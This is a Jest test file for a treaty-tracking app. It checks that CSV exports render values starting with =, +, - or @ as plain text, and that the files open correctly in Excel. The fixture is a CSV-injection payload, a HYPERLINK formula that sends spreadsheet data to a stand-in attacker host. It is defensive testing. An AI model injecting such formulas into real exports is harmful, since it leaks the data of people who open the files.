import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { parseValidAtom } from '../../support/atom-checks';
import { downloadText } from '../../support/live-and-downloads';
import { startTestApp, type TestApp } from '../../support/test-app';
import { fixedClock, post, signature, source } from '../../support/treaty-requests';

/** What a journalist's spreadsheet would run on opening the CSV: a link that sends the sheet's data away. */
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Read the full article")';
const TREATY = {
  id: 'ru-ir-spreadsheet-safety',
  title: '-Treaty between Россия and ایران',
  parties: ['RU', 'IR'],
  category: 'partnership',
};

describe('downloads opened in a spreadsheet (decision 0037)', () => {
  let subject: TestApp;
  beforeAll(async () => {
    subject = await startTestApp({}, { clock: fixedClock() });
    await post(subject.http, '/treaties', TREATY).expect(201);
    const written = await post(
      subject.http,
      `/treaties/${TREATY.id}/developments`,
      signature({
        place: '@Moscow',
        source: source({ publisher: '+Press', publishedOn: '2025-01-17', quote: FORMULA }),
      }),
    ).expect(201);
    await request(subject.http).get(`/treaties/${TREATY.id}?minPosition=${written.body.position}`).expect(200);
  });
  afterAll(() => subject.close());

  const csv = async (path: string) =>
    parse<Record<string, string>>((await downloadText(subject.http, path)).body as string, {
      columns: true,
      bom: true,
    });

  it('developments.csv writes a quote, a publisher and a place that start as a formula as text', async () => {
    const [row] = await csv('/exports/developments.csv');
    expect(row).toMatchObject({
      treatyId: TREATY.id,
      occurredOn: '2025-01-17',
      sourceQuote: `'${FORMULA}`,
      sourcePublisher: "'+Press",
      place: "'@Moscow",
      sourcePublishedOn: '2025-01-17',
    });
  });

  it('treaties.csv writes a title that starts as a formula as text, and leaves ids, codes and dates alone', async () => {
    const [row] = await csv('/exports/treaties.csv');
    expect(row).toMatchObject({ id: TREATY.id, title: `'${TREATY.title}`, parties: 'RU IR', signedOn: '2025-01-17' });
  });

  it('starts each CSV with the UTF-8 byte order mark, so that Excel shows Russian and Persian names as written', async () => {
    for (const path of ['/exports/treaties.csv', '/exports/developments.csv']) {
      const response = await request(subject.http)
        .get(path)
        .buffer(true)
        .parse((stream, callback) => {
          const chunks: Buffer[] = [];
          stream.on('data', (chunk: Buffer) => chunks.push(chunk));
          stream.on('end', () => callback(null, Buffer.concat(chunks)));
        })
        .expect(200);
      const bytes = response.body as Buffer;
      expect([path, ...bytes.subarray(0, 3)]).toEqual([path, 0xef, 0xbb, 0xbf]);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    }
    const [row] = await csv('/exports/treaties.csv');
    expect(row!.title).toContain('Россия and ایران');
  });

  it('keeps the exact text in the JSON reads, JSON-LD and Atom', async () => {
    const timeline = (await request(subject.http).get(`/treaties/${TREATY.id}/timeline`).expect(200)).body;
    expect(timeline.items[0].sources[0].quote).toBe(FORMULA);
    const jsonld = JSON.parse((await downloadText(subject.http, '/exports/treaties.jsonld')).body as string);
    expect(jsonld['@graph'][0].name).toBe(TREATY.title);
    const feed = parseValidAtom((await request(subject.http).get(`/treaties/${TREATY.id}/feed.atom`).expect(200)).text);
    expect(feed.entries[0]!.content).toContain(`“${FORMULA}”`);
    expect(feed.entries[0]!.title).toContain(`: ${TREATY.title}`);
  });
});
